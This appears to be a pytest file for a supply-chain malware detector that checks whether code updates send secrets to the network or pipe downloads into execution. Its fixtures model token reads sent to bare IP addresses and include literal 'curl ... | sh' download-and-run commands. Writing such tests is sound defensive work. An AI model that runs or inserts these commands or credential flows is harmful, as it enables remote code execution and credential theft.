"""Flows to the network and to execution: what an honest line may go on doing."""

from lazaretto.core.facts import Fact, Flow, Kind, Reach
from lazaretto.core.update import ArtifactView
from lazaretto.detectors import download_flows_to_execution, secret_flows_to_network
from tests.detectors.updates import fact, update, view

FILES = {"index.js": "a"}
FLOW = {"index.js": (Flow(0, 1, "data"),)}
TOKEN = fact(Kind.SECRET_READ, "API_TOKEN")


def _view(*facts: Fact, reach: Reach = Reach.IMPORT, text: str = "b", how: str = "data") -> ArtifactView:
    flows = {"index.js": tuple(Flow(n, n + 1, how) for n in range(0, len(facts) - 1, 2))}
    return view({"index.js": text}, {"index.js": facts}, {"index.js": reach}, flows=flows)


def test_a_known_flow_to_another_place_is_no_news() -> None:
    """A line that sends its token goes on sending it; a bare address as the new place is news."""
    before = _view(TOKEN, fact(Kind.NET_CONNECT, "https://api.invalid/v1", 2), text="a")
    moved = _view(TOKEN, fact(Kind.NET_CONNECT, "https://api.invalid/v2", 2))
    stolen = _view(TOKEN, fact(Kind.NET_CONNECT, "http://203.0.113.9/", 2))

    assert list(secret_flows_to_network.detect(update(before, moved))) == []
    assert [f.variant for f in secret_flows_to_network.detect(update(before, stolen))] == ["harvest"]


def test_first_contact_with_an_installer_that_uses_a_token() -> None:
    """One token to a named host weighs little; many, or a hidden host, weigh much; what is called is not asked."""
    net = fact(Kind.NET_CONNECT, "https://api.invalid", 2)
    many = [one for n in range(3) for one in (fact(Kind.SECRET_READ, f"S{n}", n), net)]
    hidden = fact(Kind.NET_CONNECT, "https://api.invalid", 2, "base64")

    def variants(*facts: Fact, reach: Reach = Reach.INSTALL) -> list[str]:
        return [f.variant for f in secret_flows_to_network.detect(update(None, _view(*facts, reach=reach)))]

    assert variants(TOKEN, net) == ["first-contact"]
    assert variants(*many) == ["first-contact-harvest"]
    assert variants(TOKEN, hidden) == ["first-contact-harvest"]
    assert variants(TOKEN, net, reach=Reach.CALL) == []


def test_scope_alone_is_the_weaker_word() -> None:
    """What merely stands in one function never becomes a harvest by its destination."""
    after = _view(TOKEN, fact(Kind.NET_CONNECT, "http://203.0.113.9/", 2), how="scope")

    assert [f.variant for f in secret_flows_to_network.detect(update(view(FILES), after))] == ["autorun-scope"]


def test_downloads_at_first_contact() -> None:
    """An installer that fetches its program from a named host is ordinary, from a bare address it is not."""
    run = fact(Kind.PROCESS_SPAWN, "./pad", 2)
    plain = _view(fact(Kind.NET_CONNECT, "https://files.invalid/pad"), run, reach=Reach.INSTALL)
    bare = _view(fact(Kind.NET_CONNECT, "http://203.0.113.9/pad"), run, reach=Reach.INSTALL)

    assert [f.variant for f in download_flows_to_execution.detect(update(None, plain))] == ["first-contact"]
    assert [f.variant for f in download_flows_to_execution.detect(update(None, bare))] == ["first-contact-suspicious"]


def test_a_line_that_always_piped_downloads() -> None:
    """Another address in a command that always piped is no news; the first such command is."""
    old = _view(fact(Kind.PROCESS_SPAWN, "curl https://a.invalid/1 | sh"), text="a")
    new = _view(fact(Kind.PROCESS_SPAWN, "curl https://a.invalid/2 | sh"))

    assert list(download_flows_to_execution.detect(update(old, new))) == []
    assert [f.variant for f in download_flows_to_execution.detect(update(view(FILES), new))] == ["autorun-data"]


def test_first_contact_with_a_flow_that_was_not_followed() -> None:
    """A secret and a connection that only stand in one function are not a credential that was taken."""
    net = fact(Kind.NET_CONNECT, "https://api.invalid", 2)
    beside = _view(TOKEN, net, reach=Reach.INSTALL, how="scope")

    assert [f.variant for f in secret_flows_to_network.detect(update(None, beside))] == ["first-contact"]
